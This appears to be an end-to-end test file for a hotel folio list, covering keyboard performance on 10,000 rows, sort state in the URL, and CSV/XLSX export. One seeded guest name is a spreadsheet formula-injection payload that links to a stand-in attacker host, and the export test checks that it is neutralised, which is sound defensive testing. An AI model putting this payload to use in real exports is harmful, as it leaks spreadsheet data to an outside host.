import assert from 'node:assert/strict'
import { readFile } from 'node:fs/promises'
import { before, type TestContext, test } from 'node:test'
import type { Page } from 'playwright-core'
import { ALL_RIGHTS } from '../../src/rights/rights.ts'
import { createRole } from '../../src/users/administration.ts'
import { unzip } from '../unzip.ts'
import { buildWorld, grant, inNewProperty, type World } from '../world.ts'
import { type App, openApp } from './app.ts'
import { measureKeys } from './measure.ts'
import { signIn, userWithLogin } from './sign-in.ts'

// A list of as many rows as a list shows, through the real API. No test fails on a time: what is printed is how much slower
// the same keys are than on a list of twenty rows, in the same run.

const MANY = 10_000
const FEW = 20

let app: App<World>

before(async () => {
  app = await openApp({ build: buildWorld })
  const { world } = app
  await inNewProperty(world, 'small')
  await fill(world, 'hotel', MANY)
  await fill(world, 'small', FEW)
  const userId = await userWithLogin(world, { login: 'ana' })
  const role = await createRole(world.administration, {
    name: 'Em dois',
    rights: ALL_RIGHTS,
    allRights: false,
  })
  assert.ok('roleId' in role)
  await grant(world.administration, { propertyId: 'small', userId, roleId: role.roleId })
})

/** Names of guests that spreadsheets would run, among ordinary ones. */
const EVIL = '=HYPERLINK("http://evil.example?x="&A1,"zeta um")'

/** Put there at once, for it is the list that is looked at here and not the books: nothing else asks for them. */
async function fill({ database }: World, propertyId: string, count: number): Promise<void> {
  const { pool } = database
  await pool.query(
    `insert into accounts (property_id, id, kind, status, version, name, opened_on)
      select $1, 'acc_' || lpad(n::text, 8, '0'), 'guest', 'active', 1,
        case n when 3 then $3 when 4 then 'zeta dois' when 5 then '@zeta três' else 'Hóspede ' || lpad(n::text, 5, '0') end,
        '2026-03-10' from generate_series(1, $2::int) n`,
    [propertyId, count, EVIL],
  )
  await pool.query(
    `insert into folios (property_id, id, account_id, number, kind, state, version, opened_on, opened_at)
      select $1, 'fol_' || lpad(n::text, 8, '0'), 'acc_' || lpad(n::text, 8, '0'), 1, 'standard', 'open', 1,
        date '2026-03-10' - (n * 13 % 20 + n % 15 * 20), '2026-03-10T12:00:00Z' from generate_series(1, $2::int) n`,
    [propertyId, count],
  )
  await pool.query(
    `insert into balances (property_id, ledger, id, debit_minor, credit_minor)
      select $1, 'guest', 'fol_' || lpad(n::text, 8, '0'), n * 101, 0 from generate_series(1, $2::int) n`,
    [propertyId, count],
  )
}

/** The list, whole, with the focus on its first row. */
async function openList(t: TestContext, path: string, count: number): Promise<Page> {
  const { page } = await app.openPage(t, { allow: [/status of 401/] })
  await signIn(page, { login: 'ana', path })
  await page.locator(`[role="grid"][aria-rowcount="${count + 2}"][aria-busy="false"]`).waitFor()
  return page
}

/** What the grid is, as who hears it is told, and how many rows stand in the page. */
function gridOf(page: Page) {
  return page.evaluate<{
    rowCount: number
    drawn: number
    focused: number
    selected: number
    first: string
  }>(`(() => {
    const grid = document.querySelector('[role="grid"]')
    const rows = [...grid.querySelectorAll('tbody tr[data-row]')]
    const focused = document.activeElement.closest('tr')
    return {
      rowCount: Number(grid.getAttribute('aria-rowcount')),
      drawn: rows.length,
      focused: Number(focused?.getAttribute('aria-rowindex') ?? 0),
      selected: rows.filter((row) => row.getAttribute('aria-selected') === 'true').length,
      first: rows[0]?.textContent ?? '',
    }
  })()`)
}

const FIRST_ROW = `document.querySelector('[role="grid"] tbody tr[data-row]').textContent`

/** From the first row to the header of a column by which neither end is the first row unsorted: each Enter on it changes the rows. */
async function goToOpenedOn(page: Page): Promise<void> {
  await page.keyboard.press('ArrowUp')
  while (!(await page.locator(':focus').textContent())?.includes('Aberta em'))
    await measureKeys(page, ['ArrowRight'])
}

/** Keys and what must have come of them, on a list of so many rows. */
async function pressAll(page: Page, count: number) {
  const times: Record<string, Awaited<ReturnType<typeof measureKeys>>> = {}
  const measure = async (what: string, keys: readonly string[], answer?: string) => {
    times[what] = await measureKeys(page, keys, { answer })
    return gridOf(page)
  }
  const begun = await gridOf(page)
  const down = await measure('ArrowDown', Array(15).fill('ArrowDown'))
  assert.equal(down.focused, begun.focused + 15, 'ArrowDown goes a row down')
  await page.keyboard.press('Control+Home')
  const from = await gridOf(page)
  const paged = await measure('PageDown', Array(8).fill('PageDown'))
  assert.ok(paged.focused > from.focused + 10, `PageDown went from ${from.focused} to ${paged.focused}`)
  await page.keyboard.press('Control+Home')
  const before = await gridOf(page)
  const spaced = await measure('Space', Array(7).fill('Space'))
  assert.equal(spaced.selected, before.selected + 1, 'Space selects a row, again takes it out, again selects')
  await page.keyboard.press('Space')
  await goToOpenedOn(page)
  const sorted = await measure('sort', Array(5).fill('Enter'), FIRST_ROW)
  assert.equal(sorted.rowCount, count + 2, 'no row is lost by sorting')
  await page.keyboard.press('/')
  await measure(
    'typing',
    [...'spede 000'].map((key) => (key === ' ' ? 'Space' : key)),
  )
  await page.waitForFunction(
    `Number(document.querySelector('[role="grid"]').getAttribute('aria-rowcount')) < ${count}`,
  )
  return {
    times,
    typed: await gridOf(page),
    most: Math.max(begun.drawn, down.drawn, paged.drawn, sorted.drawn),
  }
}

test(`keys on a list of ${MANY} rows, next to one of ${FEW}`, { timeout: 120_000 }, async (t) => {
  const small = await openList(t, '/small/folios', FEW)
  const few = await pressAll(small, FEW)
  const large = await openList(t, '/hotel/folios', MANY)
  assert.equal((await gridOf(large)).rowCount, MANY + 2)
  await large.getByText('10.000 linhas', { exact: true }).waitFor()
  const many = await pressAll(large, MANY)
  assert.ok(many.typed.rowCount > 98 && many.typed.rowCount < 300 && many.typed.first.includes('000'))
  assert.ok(many.most < 80, `${many.most} rows stand in the page: it grows with the list`)
  for (const [what, { p50, p95 }] of Object.entries(many.times)) {
    const peer = few.times[what]!
    const ratio = (p95 / peer.p95).toFixed(1)
    t.diagnostic(
      `${what}: p50 ${p50} ms, p95 ${p95} ms on ${MANY} rows; p50 ${peer.p50} ms, p95 ${peer.p95} ms on ${FEW}; ratio of p95 ${ratio}`,
    )
  }
  await large.goto('/hotel/folios?q=spede+09999')
  await large.locator('[role="grid"][aria-rowcount="3"]').waitFor()
  t.diagnostic(`rows in the page: ${many.most} of ${MANY}, ${few.most} of ${FEW}`)
})

test('keys that come faster than the URL are all heard, and the browser’s back goes to what was', {
  timeout: 60_000,
}, async (t) => {
  const page = await openList(t, '/small/folios', FEW)
  await goToOpenedOn(page)
  const sortInUrl = () => new URL(page.url()).searchParams.get('sort') ?? ''
  const firstRow = () => page.evaluate<string>(FIRST_ROW)
  const until = async (isSo: () => Promise<boolean>) => {
    while (!(await isSo())) await page.waitForTimeout(20)
  }
  /** The first row, by how the list is sorted. */
  const rows: Record<string, string> = { '': await firstRow() }
  for (const sort of ['openedOn', '-openedOn', '']) {
    await measureKeys(page, ['Enter'], { answer: FIRST_ROW })
    await until(async () => sortInUrl() === sort)
    rows[sort] = await firstRow()
  }
  assert.equal(new Set(Object.values(rows)).size, 3)
  // However many of them come before the URL says the first.
  for (let n = 0; n < 8; n++) await page.keyboard.press('Enter')
  const isAsUrlSays = async () => (await firstRow()) === rows[sortInUrl()]
  await until(async () => sortInUrl() === '-openedOn' && (await isAsUrlSays()))
  for (let back = 0; back < 2; back++) {
    await page.goBack()
    await until(isAsUrlSays)
    await page.waitForTimeout(300)
    assert.ok(await isAsUrlSays())
  }
})

test('what is filtered is exported, whole, and no name in it is run', async (t) => {
  const page = await openList(t, '/hotel/folios?q=zeta', 3)
  const csv = (await download(page, 'CSV')).toString('utf8')
  const lines = csv.trim().split('\r\n')
  assert.equal(lines.length, 4, csv)
  assert.ok(csv.includes(`"'=HYPERLINK(""http://evil.example`), csv)
  assert.ok(csv.includes(`'@zeta três`), csv)
  assert.ok(!/(^|;)"?[=@+]/m.test(csv), csv)
  const sheet = Object.fromEntries(unzip(await download(page, 'XLSX')))
  const texts = Object.values(sheet).join('\n')
  assert.ok(texts.includes('HYPERLINK(') && texts.includes('zeta dois'), Object.keys(sheet).join())
  // In a workbook a text is a text; only <f> is run.
  for (const [name, xml] of Object.entries(sheet)) assert.ok(!/<f[ >]|<hyperlink/i.test(xml), name)
  const rows = sheet['xl/worksheets/sheet1.xml']!.match(/<row /g)
  assert.equal(rows?.length, 4)

  await page.emulateMedia({ media: 'print' })
  await page.getByText(/^Posição em /).waitFor()
  await page.getByText('Filtros: “zeta”').waitFor()
  const heights = await page
    .locator('tbody tr[data-row]')
    .evaluateAll((all) => all.map((row) => (row as unknown as { offsetHeight: number }).offsetHeight))
  assert.ok(Math.max(...heights) < 30, `a row of one line is ${heights} pixels high on paper`)
})

test('all rows of the list are in the file, not only those that are drawn', async (t) => {
  const page = await openList(t, '/hotel/folios', MANY)
  const csv = (await download(page, 'CSV')).toString('utf8')
  assert.equal(csv.trim().split('\r\n').length, MANY + 1)
})

async function download(page: Page, kind: string): Promise<Buffer> {
  await page.getByRole('button', { name: 'Exportar' }).click()
  const coming = page.waitForEvent('download')
  await page.getByRole('menuitem', { name: kind }).click()
  const file = await coming
  assert.match(file.suggestedFilename(), new RegExp(`\\.${kind.toLowerCase()}$`))
  return readFile((await file.path())!)
}
